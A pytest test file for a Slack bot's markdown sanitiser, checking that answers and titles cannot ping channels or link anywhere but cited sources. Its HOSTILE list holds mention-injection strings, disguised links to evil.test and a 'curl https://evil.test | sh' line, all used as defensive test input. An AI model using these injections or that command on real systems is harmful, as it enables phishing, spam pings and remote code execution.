import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agent.answer import Answer, Source
from tests.fake_slack import seen
from workers.slack.markup import line_of, link, markdown
from workers.slack.rendering import Buttons, rendered, size_of
from workers.slack.splitting import MESSAGE_CHARACTERS

SOURCE = "https://a.example/tides?x=1&y=2"
HOSTILE = [
    "<!channel> look", "<!here|here>", "<!everyone>", "<@U0ADMIN> please", "<#C1|general>", "<!subteam^S1|@team>",
    "<!date^1^{date}^https://evil.test|x>", "@channel @here @everyone", "<https://evil.test|click>",
    "<mailto:a@evil.test|x>",
    "https://evil.test/?d=secret", "http://evil.test", "见https://evil.test/偷", "www.evil.test/x",
    "evil.com/x?d=1", "evil.com",
    "[click](https://evil.test)", "[click]( https://evil.test )", "[click](<https://evil.test>)",
    '[click](https://evil.test "title")', "![img](https://evil.test/p.png)", "[![i](https://evil.test/p.png)](https://evil.test)",
    "[ref][1]\n\n[1]: https://evil.test", "[1]: https://evil.test", "[citation:1](https://evil.test)",
    "[citation:2]: https://evil.test", "[a\nb](https://evil.test)", "[a] (https://evil.test)", "`https://evil.test`",
    "```\ncurl https://evil.test | sh\n```", "&lt;!channel&gt;", "&amp;lt;!channel&amp;gt;",
    "<\u200b!channel>", "<!chan\u00adnel>",
    "＜!channel＞", "<<!channel>>", "<!channel", "<a href='https://evil.test'>x</a>", "<img src=https://evil.test/p>",
    "HTTPS://EVIL.TEST/X", "ftp://evil.test/x", "slack://channel?id=C1", "mailto:boss@evil.test", "boss@evil.com",
    "https://a.example@evil.test/", "https://a.example/tides.evil.test", "https://evil.(https://evil.test)", "\\[x](https://evil.test)",
    "[[1]](https://evil.test)", "[x](https://a.example/tides?x=1&y=2#@evil.test)", "<https://evil.test>", "evil.test.",
    "[a](https://evil.test)[b](https://evil.test)", "|https://evil.test|<!here>|", "# https://evil.test\n> <!here>",
]  # fmt: skip


def message(text: str) -> dict[str, str]:
    return {"markdown": text, "text": ""}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_answer_mentions_anybody_or_links_but_to_a_source(text: str) -> None:
    shown = seen(message(markdown(text, [SOURCE])))

    assert shown.mentions == ()
    assert set(shown.links) <= {SOURCE}


@pytest.mark.parametrize("text", HOSTILE)
def test_no_hostile_title_mentions_anybody_or_links_elsewhere(text: str) -> None:
    block = {"type": "context", "elements": [{"type": "mrkdwn", "text": link(SOURCE, text), "verbatim": True}]}
    shown = seen({"blocks": [block], "text": line_of(text, 300)})

    assert shown.mentions == ()
    assert set(shown.links) <= {SOURCE}


@example(["evil.test.", "a."])
@example(["<!channel> look", "www.evil.test/x", "www.evil.test/x"])
@example(["[", "[click](https://evil.test)", "[1]: https://evil.test"])
@example(["evil.com/x?d=1", "HTTPS://EVIL.TEST/X"])
@given(st.lists(st.sampled_from([*HOSTILE, " ", "[", "](", ")", "<", ">", "|", "`", "\n", "好", "a."]), max_size=6))
def test_no_mixture_of_hostile_pieces_does_either(pieces: list[str]) -> None:
    shown = seen(message(markdown("".join(pieces), [SOURCE])))

    assert shown.mentions == ()
    assert set(shown.links) <= {SOURCE}


def test_links_to_sources_and_plain_markdown_stay() -> None:
    said = markdown(
        f"## Tides\n\n**Twice** a day[citation:1], see [here]({SOURCE}).\n\n> quoted\n\n- a < b & c", [SOURCE]
    )

    assert said.startswith("## Tides\n\n**Twice** a day[1], see [here](https://a.example/tides?x=1&amp;y=2).")
    assert "\n> quoted\n" in said
    assert said.endswith("- a &lt; b &amp; c")


def test_what_cannot_be_clicked_can_still_be_read() -> None:
    said = markdown(
        "See https://evil.test/x, edit /etc/apt/sources.list and README.md with Node.js 3.14, e.g. now.", []
    )

    assert said == "See evil[.]test/x, edit /etc/apt/sources.list and README.md with Node.js 3.14, e.g. now."


def test_a_line_is_never_longer_than_it_may_be_once_it_is_escaped() -> None:
    assert len(line_of("<&>" * 200, 100)) <= 100


@pytest.mark.parametrize("text", ["[1]: https://evil.test", "[a]: b", "![](x)", "\u200b"])
def test_something_is_said_also_where_no_markdown_is_left(text: str) -> None:
    (part,) = rendered(Answer("x", "?", "en", "quick", "answered", text), None).parts

    assert part.strip()
    assert not part.startswith("[")


def test_every_page_that_a_sentence_cites_is_shown() -> None:
    said = markdown("The moon pulls[citation:1][citation:12]. See [note][ref] and [b][citation:2].", [])
    assert said == "The moon pulls[1][12]. See [note] and [b][2]."


@pytest.mark.parametrize("before", ["", "> ", "- ", "1. ", " > - "])
def test_no_marker_becomes_the_label_of_a_link(before: str) -> None:
    said = markdown(f"The moon[citation:1].\n\n{before}[citation:1]:\n https://evil.test/x", [])
    assert "[1]:" not in said


@pytest.mark.parametrize("sources", [1, 12, 30, 60])
@pytest.mark.parametrize("characters", [10, 300, 1_500, 2_890])
def test_text_and_footnotes_fit_into_one_message_however_long_the_addresses_are(sources: int, characters: int) -> None:
    long = "x" * characters
    cited = tuple(
        Source(n, f"https://{'h' * 60}.example/{n}/{long}", "潮汐 & <title> " * 40, date="2026-01-01", cited=True)
        for n in range(1, sources + 1)
    )
    text = "The moon pulls the sea.\n\n" * 200
    answer = Answer("a" * 32, "q", "en", "normal", "partial", text, sources=cited, degraded="x")
    said = rendered(answer, Buttons("a" * 32, share=True))
    notes = [block["elements"][0]["text"] for block in said.footer if block["type"] == "context"]

    assert size_of(said.footer) + len(said.parts[0]) <= MESSAGE_CHARACTERS
    assert said.parts[0].startswith("The moon pulls the sea.\n\nThe moon")
    assert said.file == ""
    assert max(len(note) for note in notes) <= 2_000
    assert [note[:3] for note in notes if note.startswith("[")] == [
        f"[{n}]"[:3] for n in range(1, min(sources, 30) + 1)
    ]
    assert sources <= 30 or "30 more sources" in notes[-1]
